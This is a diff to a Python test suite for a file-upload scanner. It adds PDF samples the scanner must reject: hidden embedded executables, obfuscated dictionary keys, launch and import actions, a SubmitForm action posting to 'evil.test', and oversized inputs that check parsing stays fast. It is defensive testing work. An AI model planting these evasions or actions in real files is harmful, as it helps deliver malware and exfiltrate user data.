@@ -3,6 +3,7 @@
 import base64
 import struct
 import tempfile
+import time
 import zipfile
 import zlib
 
@@ -97,6 +98,22 @@ FILES = {
     "a pdf that starts a program": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), "a.pdf", None, PDF_ACTIVE),
     "a pdf with a form of scripts": (pdf(b"<< /XFA [(x) 1 0 R] >>"), "a.pdf", None, PDF_ACTIVE),
     "a pdf with an attachment": (pdf(b"<< /Names << /EmbeddedFiles 9 0 R >> >>"), "a.pdf", None, PDF_ATTACHED),
+    "a pdf with an attachment that nothing lists": (
+        pdf(b"<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>"), "a.pdf", None, PDF_ATTACHED
+    ),
+    "a pdf with an attachment behind a comment": (pdf(b"<< /E#46 %x\n9 0 R >>"), "a.pdf", None, PDF_ATTACHED),
+    "a pdf with a pinned file": (pdf(b"<< /Subtype /FileAttachment /FS 9 0 R >>"), "a.pdf", None, PDF_ATTACHED),
+    "a pdf with associated files": (pdf(b"<< /AF [9 0 R] >>"), "a.pdf", None, PDF_ATTACHED),
+    "a pdf that opens another": (pdf(b"<< /S /GoToE /T << /R /C >> >>"), "a.pdf", None, PDF_ACTIVE),
+    "a pdf that reads a file": (pdf(b"<< /S /ImportData /F (a.fdf) >>"), "a.pdf", None, PDF_ACTIVE),
+    "a pdf that sends what is typed": (pdf(b"<< /S /SubmitForm /F (https://evil.test) >>"), "a.pdf", None, PDF_ACTIVE),
+    "a pdf with a form of scripts behind a comment": (pdf(b"<< /XFA%\n[(x) 1 0 R] >>"), "a.pdf", None, PDF_ACTIVE),
+    "a pdf with objects under another name": (
+        pdf(object_stream(b"1 0 " + SCRIPT).replace(b"/ObjStm", b"/Nothing")), "a.pdf", None, PDF_ACTIVE
+    ),
+    "a pdf with objects behind a stream that is none": (
+        pdf(b"<< /Filter /FlateDecode /X (stream\n) " + object_stream(SCRIPT, b"")[16:]), "a.pdf", None, PDF_OPAQUE
+    ),
     "a locked pdf": (pdf(b"<< /Encrypt 9 0 R >>"), "a.pdf", None, LOCKED),
     "a pdf with objects in a code of their own": (
         pdf(object_stream(b"1 0 " + SCRIPT, b"/Filter /ASCIIHexDecode", base64.b16encode)), "a.pdf", None, PDF_OPAQUE
@@ -147,6 +164,18 @@ FILES = {
 }  # fmt: skip
 
 
+SLOW = {
+    "escapes before streams": (b"obj " + b"#4a" * 5_000 + b"stream\n" * 2_300) * 5,
+    "nothing but streams": b"stream\n" * 2_700_000,
+    "nothing but objects": b"obj" * 6_000_000,
+    "nothing but names": b"/" * 20_000_000,
+    "nothing but escapes": b"/#4a" * 4_900_000,
+    "dictionaries without end": (b"obj /First " + b"/a" * 16_000 + b"stream\n") * 600,
+    "object streams without end": (b"obj " + object_stream(b"1 0") + b"\n") * 200_000,
+    "much in little": b"obj " + object_stream(b"/" * 24_000_000),
+}
+
+
 @pytest.fixture
 def customer(ahmed):
     return make_customer(ahmed)
@@ -182,6 +211,7 @@ def test_the_reason_comes_in_the_language_of_the_caller(as_, ahmed, customer):
         (pdf(object_stream(b"1 0 << /Type /Font >>", b"", bytes)), "objects in a plain stream.pdf"),
         (pdf(b"<< /S /URI /URI (https://example.com) >>"), "a link.pdf"),
         (pdf() + b"\r\n\0", "an end of its own.pdf"),
+        (pdf(b"<< /First 4 0 R /Last 9 0 R >>", b"<< >>\nstream\n/EF /AF q Q /XFA\nendstream"), "short names.pdf"),
         (office("xlsx", ("xl/sheet.xml", b"<c/>" * 200_000)), "a large table.xlsx"),
         (office("docx", ("word/_rels/settings.xml.rels", "<Relationship/>")), "settings.docx"),
         (office("xlsx", ("xl/printerSettings/printerSettings1.bin", b"x")), "a printer.xlsx"),
@@ -191,6 +221,14 @@ def test_what_looks_odd_but_is_harmless_is_kept(as_, ahmed, customer, temporary,
     data_of(send(as_(ahmed), customer, form(content, name)), 201)
     assert list(stored().values()) == [content]
     assert list(temporary.iterdir()) == []
+
+
+@pytest.mark.parametrize("case", SLOW)
+def test_no_pdf_holds_a_processor_for_long(as_, ahmed, customer, case):
+    began = time.process_time()
+    response = send(as_(ahmed), customer, form(b"%PDF-1.4\n" + SLOW[case] + b"\n%%EOF\n", "a.pdf"))
+    assert time.process_time() - began < 8
+    assert response.status_code in (201, 400)
 
 
 def test_a_keyword_between_two_windows_is_seen(as_, ahmed, customer):
